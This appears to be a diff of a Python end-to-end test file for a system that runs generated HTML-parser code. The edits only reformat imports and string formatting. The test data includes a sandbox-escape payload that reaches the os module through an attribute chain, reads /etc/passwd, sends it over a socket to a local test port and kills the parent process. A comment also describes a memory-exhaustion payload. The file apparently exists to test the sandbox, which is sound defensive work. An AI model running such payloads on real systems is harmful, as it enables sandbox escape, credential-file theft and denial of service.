@@ -10,12 +10,18 @@ import socket
 import threading
 
 import pytest
-
 from conftest import db_rows
 from healer_server import HealerServer
 from sitepages import LISTING_BP, write_blueprint
-from test_e2e_external import _code, add_and_break, assert_running, fix_rows, healer_calls, healer_config, \
-    production_versions
+from test_e2e_external import (
+    _code,
+    add_and_break,
+    assert_running,
+    fix_rows,
+    healer_calls,
+    healer_config,
+    production_versions,
+)
 
 CODE_BP = dict(LISTING_BP, parser=(
     "from selectolax.lexbor import LexborHTMLParser\n\n"
@@ -52,10 +58,10 @@ def bypass_parser(port: int) -> str:
             "def parse(html):\n"
             "    os = decoder.re.enum.sys.modules['os']\n"
             "    secret = os.read(os.open('/etc/passwd', 0), 4096)\n"
-            "    s = decoder.re.enum.sys.modules['socket'].create_connection(('127.0.0.1', %d))\n"
+            f"    s = decoder.re.enum.sys.modules['socket'].create_connection(('127.0.0.1', {port}))\n"
             "    s.sendall(secret)\n"
             "    os.kill(os.getppid(), 9)\n"
-            "    return [{'name': 'x', 'score': '1'}]\n" % port)
+            "    return [{'name': 'x', 'score': '1'}]\n")
 
 
 # Passes the static check; at run time it walks for a module, finds none, then exhausts its memory.
